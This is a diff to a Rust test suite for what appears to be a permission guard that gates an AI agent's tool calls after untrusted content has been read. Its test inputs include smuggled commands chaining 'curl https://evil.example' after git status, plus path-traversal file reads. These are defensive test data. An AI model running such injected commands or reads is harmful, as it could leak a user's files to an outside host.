@@ -487,8 +487,12 @@ fn the_example_asks_after_a_page_was_read() {
     assert_eq!(after("Read", json!({"file_path": "/project/../home/mail"}), "PAY"), "ask");
     assert_eq!(after("Read", json!({"file_path": "/projects/mail"}), "PAY"), "ask");
     assert_eq!(after("Bash", json!({"command": "cargo test --workspace"}), "ok"), "allow");
-    assert_eq!(after("Bash", json!({"command": "git log; curl https://evil.example"}), "PAY"), "ask");
-    assert_eq!(after("Bash", json!({"command": "git log\ncurl https://evil.example"}), "PAY"), "ask");
+    assert_eq!(after("Bash", json!({"command": "git diff --cached --stat"}), "ok"), "allow");
+    // Others write commits.
+    assert_eq!(after("Bash", json!({"command": "git log -3"}), "PAY"), "ask");
+    assert_eq!(after("Bash", json!({"command": "git diff HEAD origin/main"}), "PAY"), "ask");
+    assert_eq!(after("Bash", json!({"command": "git status; curl https://evil.example"}), "PAY"), "ask");
+    assert_eq!(after("Bash", json!({"command": "git status\ncurl https://evil.example"}), "PAY"), "ask");
     assert_eq!(after("WebFetch", json!({"url": "https://example.org"}), "PAY"), "ask");
     let settings = json!({"file_path": "/project/.claude/settings.json", "content": "{}"});
     let said = decide(&[user("fix it")], "Write", settings);
